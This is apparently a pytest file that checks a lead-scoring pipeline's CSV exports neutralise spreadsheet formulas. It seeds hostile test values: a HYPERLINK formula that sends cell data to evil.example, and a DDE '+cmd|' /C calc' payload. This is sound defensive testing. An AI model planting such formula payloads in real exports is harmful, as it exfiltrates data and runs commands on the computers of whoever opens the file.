"""CSV exports of crawled, vendor and model text cannot carry spreadsheet formulas."""
from __future__ import annotations

import csv
import io
import uuid

import pytest
from psycopg.types.json import Jsonb

from nightly_pipeline.cli import main
from nightly_pipeline.domain.spreadsheet import neutralise_cell

DAY = "2026-06-01"
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"),
    ("+65 6123 4567", "'+65 6123 4567"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\tcmd", "'\tcmd"),
    ("\rcmd", "'\rcmd"),
    ("Acme Pte. Ltd.", "Acme Pte. Ltd."),
    ("a=b", "a=b"),
    ("", ""),
    (None, None),
    (-0.5, -0.5),
    (3, 3),
])
def test_neutralise_cell(value, written):
    assert neutralise_cell(value) == written


@pytest.fixture
def hostile_night(db, admin):
    with db.shared() as conn:
        tenant = conn.execute("SELECT register_tenant('acme', NULL) AS id").fetchone()["id"]
    company = admin.execute(
        """INSERT INTO companies (uen, name, legal_name, is_live, ssic_code, website_domain, source_row_hash,
                                  source_updated_at)
           VALUES ('201912345K', %s, 'X', true, '62011', '-evil.example', 'h', now()) RETURNING company_id""",
        (HOSTILE_NAME,)).fetchone()[0]
    with db.tenant(tenant) as conn:
        conn.execute("""INSERT INTO lead_scores (tenant_id, company_id, score_date, score, bucket, reasons, rationale,
                                                 rationale_source, shortlisted)
                        VALUES (%s, %s, %s, 0.81234, 'High', '[]', '+cmd|'' /C calc''!A0', 'model', true)""",
                     (tenant, company, DAY))
        conn.execute("""INSERT INTO contacts (tenant_id, company_id, email, full_name, title, source, is_primary)
                        VALUES (%s, %s, 'ceo@acme.sg', 'Ann', '@SUM(1+1)*cmd', 'site', true)""", (tenant, company))
        conn.execute("""INSERT INTO icp_candidate_companies (tenant_id, company_id, match_score, reasons, refreshed_on)
                        VALUES (%s, %s, 0.75, '[]', %s)""", (tenant, company, DAY))
        conn.execute("""INSERT INTO enrichment_runs (tenant_id, run_id, run_date, selected_company_ids, target_reasons,
                                                     caps, budget_snapshot)
                        VALUES (%s, %s, %s, %s, %s, '{}', '{}')""",
                     (tenant, uuid.uuid4(), DAY, [company], Jsonb({str(company): "-1 never targeted"})))
    return tenant


def exported(capsys, *args) -> list[dict[str, str]]:
    assert main(list(args)) == 0
    return list(csv.DictReader(io.StringIO(capsys.readouterr().out)))


@pytest.mark.database
def test_shortlist_csv_neutralises_formulas_and_keeps_numbers(db_env, hostile_night, capsys):
    [row] = exported(capsys, "shortlist", str(hostile_night), "--date", DAY, "--format", "csv")
    assert row["company"] == "'" + HOSTILE_NAME
    assert row["rationale"] == "'+cmd|' /C calc'!A0"
    assert row["contact_title"] == "'@SUM(1+1)*cmd"
    assert row["uen"] == "201912345K" and row["bucket"] == "High"
    assert (row["rank"], row["score"]) == ("1", "0.812")


@pytest.mark.database
def test_targets_csv_neutralises_formulas_and_keeps_numbers(db_env, hostile_night, capsys):
    [row] = exported(capsys, "targets", str(hostile_night), "--date", DAY, "--format", "csv")
    assert row["company"] == "'" + HOSTILE_NAME
    assert row["domain"] == "'-evil.example"
    assert row["why"] == "'-1 never targeted"
    assert row["match_score"] == "0.75"


@pytest.mark.database
def test_json_output_keeps_text_as_it_is(db_env, hostile_night, capsys):
    assert main(["shortlist", str(hostile_night), "--date", DAY, "--format", "json"]) == 0
    assert HOSTILE_NAME.replace('"', '\\"') in capsys.readouterr().out
